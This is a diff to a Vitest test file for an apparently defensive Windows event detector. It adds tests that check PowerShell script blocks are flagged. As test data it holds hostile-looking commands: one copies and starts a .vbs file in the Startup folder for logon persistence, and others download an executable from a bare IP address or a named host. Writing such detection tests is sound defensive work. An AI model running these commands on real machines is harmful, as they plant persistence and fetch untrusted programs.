@@ -1,13 +1,14 @@
 import { describe, expect, it } from "vitest";
 import { anEvent, aStart, testCatalog } from "../../test/support/events.ts";
 import type { Event } from "../model/event.ts";
+import type { Level } from "../model/level.ts";
 import { createDetector } from "./detector.ts";
 
 const S32 = "C:\\Windows\\System32\\";
 const PS = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
 
-function find(events: readonly Event[]) {
-  const detector = createDetector({ catalog: testCatalog(), minLevel: "medium" });
+function find(events: readonly Event[], minLevel: Level = "medium") {
+  const detector = createDetector({ catalog: testCatalog(), minLevel });
   return [...events.flatMap((event) => detector.push(event)), ...detector.end()];
 }
 
@@ -32,6 +33,23 @@ describe("a script block of PowerShell", () => {
     const findings = find([aStart(0, "P", PS, `powershell -c "${cradle}"`), block(1, cradle)]);
     expect(findings).toHaveLength(1);
     expect(findings[0]?.related).toHaveLength(1);
+  });
+  it("is told of where the shell's own line says less", () => {
+    const findings = find([aStart(0, "P", PS, "powershell -File C:\\Scripts\\x.ps1"), block(1, cradle)]);
+    expect(findings.map(({ behaviour }) => behaviour)).toContain("windows/powershell/remote-code");
+  });
+  it("that writes where files are started at logon is a finding, though scripts of setups do so, too", () => {
+    const startup = "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\u.vbs";
+    const [finding] = find([block(0, `Copy-Item C:\\x\\u.vbs '${startup}'; Start-Process '${startup}'`)], "low");
+    expect(finding?.techniques).toContain("T1547.001");
+  });
+  it("that fetches a program from a machine without a name is a finding, and one that fetches another file is less", () => {
+    const fetch = (address: string) =>
+      find([block(0, `iwr ${address} -OutFile C:\\Users\\Public\\p.exe`)], "informational");
+    const [bare, named] = [fetch("http://203.0.113.4/p.exe"), fetch("https://files.example/p.exe")];
+    expect(bare[0]).toMatchObject({ behaviour: "windows/powershell/download", level: "medium" });
+    expect(named[0]?.evidence.map(({ id }) => id)).toContain("own-script");
+    expect(named[0]?.score).toBeLessThan(40);
   });
   it.each([
     "Get-ChildItem C:\\Temp | Remove-Item",
